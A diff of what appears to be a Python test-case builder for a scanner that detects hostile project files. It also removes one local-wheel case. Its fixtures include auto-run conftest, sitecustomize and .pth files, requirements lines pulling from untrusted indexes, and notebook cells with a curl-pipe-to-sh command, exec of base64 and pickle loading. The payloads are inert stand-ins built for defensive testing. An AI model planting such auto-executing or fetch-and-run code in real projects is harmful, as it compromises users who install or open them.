@@ -87,8 +87,9 @@ def code() -> Shelf:
     add("conftest", {"conftest.py": ATTACKS["os-system"]}, "a conftest that pytest runs")
     add("sitecustomize", {"sitecustomize.py": ATTACKS["os-system"]}, "a module Python imports by itself")
     add("pth", {"evil.pth": b"import os; os.system('echo waag-inert')\n"}, "a path file that Python runs at start")
+    # A wheel of the repository's own is no case: it is a file beside the list, and judged as one.
     for id, text in (("index", b"--index-url http://example.invalid/simple\nnumpy\n"), ("extra-index", b"--extra-index-url https://example.invalid/simple\nnumpy\n"), ("url", b"https://example.invalid/evil.whl\n"), ("git", b"git+https://example.invalid/evil.git\n"),
-                     ("local", b"./evil-1.0-py3-none-any.whl\n"), ("trusted-host", b"--trusted-host example.invalid\nnumpy\n"), ("at", b"numpy @ https://example.invalid/numpy.whl\n"), ("include", b"-r http://example.invalid/requirements.txt\n")):
+                     ("trusted-host", b"--trusted-host example.invalid\nnumpy\n"), ("at", b"numpy @ https://example.invalid/numpy.whl\n"), ("include", b"-r http://example.invalid/requirements.txt\n")):
         add(f"requirements-{id}", {"requirements.txt": text}, f"requirements from elsewhere: {id}")
     for id, source in (("shell", "!curl http://example.invalid/x | sh"), ("magic", "%%bash\necho waag-inert"), ("system", "import os\nos.system('echo waag-inert')"), ("get-ipython", "get_ipython().system('echo waag-inert')"), ("pickle", "import pickle\npickle.load(open('x.pkl', 'rb'))"),
                        ("exec", "exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("sx", "%sx echo waag-inert"), ("script", "%%script sh\necho waag-inert")):
